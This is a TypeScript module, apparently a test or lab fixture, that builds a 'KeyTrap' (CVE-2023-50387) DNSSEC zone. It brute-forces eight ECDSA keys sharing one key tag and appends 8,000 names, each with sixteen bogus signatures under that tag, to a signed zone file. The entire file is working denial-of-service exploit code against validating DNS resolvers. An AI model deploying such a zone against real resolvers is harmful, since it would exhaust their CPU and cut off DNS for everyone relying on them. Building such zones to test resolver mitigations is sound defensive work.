// A zone whose answers are as much work as their maker can arrange (CVE-2023-50387, "KeyTrap"): many
// keys with one key tag, and on each name many signatures with that tag, of which none holds.

import { createECDH, randomBytes } from 'node:crypto'
import { appendFileSync, readFileSync } from 'node:fs'

export const TRAP_ZONE = 'keytrap.example'

/** Names in it, `trapLabel` says which. */
export const TRAPS = 8_000

const KEYS = 8
const SIGNATURES = 16

/** Octets of an ECDSA P-256 signature, and of an uncompressed point before its two numbers. */
const SIGNATURE_LENGTH = 64
const POINT_HEAD = 1

const ZONE_KEY = 256
const PROTOCOL = 3
const ECDSA = 13

export interface CollidingKeys {
  readonly tag: number
  /** DNSKEY records, owner first. */
  readonly records: readonly string[]
}

export const trapLabel = (number: number): string => `trap${number}`

/** Makes keys until enough have one tag (RFC 4034 appendix B); some ten seconds. */
export function collidingKeys(): CollidingKeys {
  const maker = createECDH('prime256v1')
  const byTag = new Map<number, Buffer[]>()
  for (;;) {
    const key = maker.generateKeys().subarray(POINT_HEAD)
    let sum = ZONE_KEY + ((PROTOCOL << 8) | ECDSA)
    for (let at = 0; at < key.length; at += 2) sum += key.readUInt16BE(at)
    const tag = (sum + (sum >>> 16)) & 0xffff
    const group = byTag.get(tag) ?? []
    byTag.set(tag, group)
    group.push(Buffer.from(key))
    if (group.length < KEYS) continue
    const records = group.map(
      (it) => `@ DNSKEY ${ZONE_KEY} ${PROTOCOL} ${ECDSA} ${it.toString('base64')}`,
    )
    return { tag, records }
  }
}

/** Appends the names to a zone file that is signed already. */
export function addTraps(file: string, { tag }: CollidingKeys): void {
  const times = /RRSIG\s+DNSKEY\s+\d+ \d+ \d+ (\d+ \d+) /.exec(readFileSync(file, 'utf8'))?.[1]
  if (times === undefined) throw new Error(`${file} has no signed keys`)
  const head = `RRSIG A ${ECDSA} 3 3600 ${times} ${tag} ${TRAP_ZONE}.`
  for (let i = 0; i < TRAPS; i++) {
    const owner = `${trapLabel(i)}.${TRAP_ZONE}. 3600 IN`
    const lines = Array.from(
      { length: SIGNATURES },
      () => `${owner} ${head} ${randomBytes(SIGNATURE_LENGTH).toString('base64')}`,
    )
    appendFileSync(file, `${owner} A 192.0.2.1\n${lines.join('\n')}\n`)
  }
}
